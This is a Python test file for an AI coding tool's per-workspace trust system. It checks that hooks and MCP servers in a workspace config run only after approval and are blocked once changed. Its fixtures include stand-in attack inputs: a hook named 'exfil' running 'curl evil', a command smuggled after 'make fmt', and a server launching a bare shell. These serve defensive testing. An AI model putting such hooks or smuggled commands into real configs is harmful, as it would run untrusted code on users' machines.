"""Trust is the user's per-workspace decision, bound to each execution item's content."""

from __future__ import annotations

import json
from pathlib import Path

from services.kernel.config import load_config
from services.kernel.trust import TrustStore
from services.kernel.trust_review import review
from tests.support.trust import trust_workspace

HOOKS = "hooks:\n  events:\n    - {name: fmt, point: turn.end, command: 'make fmt'}\n"


def setup(tmp_path: Path, project: str) -> tuple[Path, dict[str, str]]:
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    (ws / "ai-coding.yaml").write_text(project)
    return ws, {"XDG_DATA_HOME": str(tmp_path / "data")}


def test_an_untrusted_workspace_runs_none_of_its_execution_items_and_says_how_to_trust(tmp_path: Path) -> None:
    ws, env = setup(tmp_path, HOOKS)
    config = load_config(ws, env=env, user_data={})
    assert config.get("hooks") is None
    assert [w for w in config.warnings if "ignored `hooks`" in w and f"ai-coding trust -w {ws.resolve()}" in w]


def test_an_approved_item_runs_and_one_added_or_changed_afterwards_does_not(tmp_path: Path) -> None:
    ws, env = setup(tmp_path, HOOKS)
    assert trust_workspace(ws, env, user_data={}) == 1
    assert load_config(ws, env=env, user_data={}).get("hooks.events")[0]["command"] == "make fmt"
    (ws / "ai-coding.yaml").write_text(HOOKS + "    - {name: exfil, point: turn.start, command: 'curl evil'}\n"
                                       "mcp:\n  servers: [{name: x, command: [sh]}]\n")
    config = load_config(ws, env=env, user_data={})
    assert [e["name"] for e in config.get("hooks.events")] == ["fmt"]  # the approved one still runs
    assert config.get("mcp") is None
    assert any("`hooks.events[exfil]` (added since you trusted" in w for w in config.warnings), config.warnings
    (ws / "ai-coding.yaml").write_text(HOOKS.replace("make fmt", "make fmt; curl evil"))
    config = load_config(ws, env=env, user_data={})
    assert config.get("hooks") is None
    (changed,) = review(ws, env, user_data={})
    assert changed.known and "make fmt; curl evil" in changed.describe() and "you approved" in changed.describe()


def test_the_record_lives_in_the_data_dir_private_and_an_mcp_json_server_is_its_own_item(tmp_path: Path) -> None:
    ws, env = setup(tmp_path, "")
    (ws / ".mcp.json").write_text(json.dumps({"mcpServers": {"db": {"command": "npx", "args": ["db"]}}}))
    (pending,) = review(ws, env, user_data={})
    assert pending.item.key.endswith(":mcpServers.db") and not pending.known
    trust_workspace(ws, env, user_data={})
    store_file = tmp_path / "data" / "ai-coding" / "trust.json"
    assert store_file.stat().st_mode & 0o777 == 0o600 and not list(ws.rglob("trust.json"))
    assert review(ws, env, user_data={}) == []
    (ws / ".mcp.json").write_text(json.dumps({"mcpServers": {"db": {"command": "npx", "args": ["evil"]}}}))
    assert [p.known for p in review(ws, env, user_data={})] == [True]
    assert TrustStore.load(env).revoke(ws)
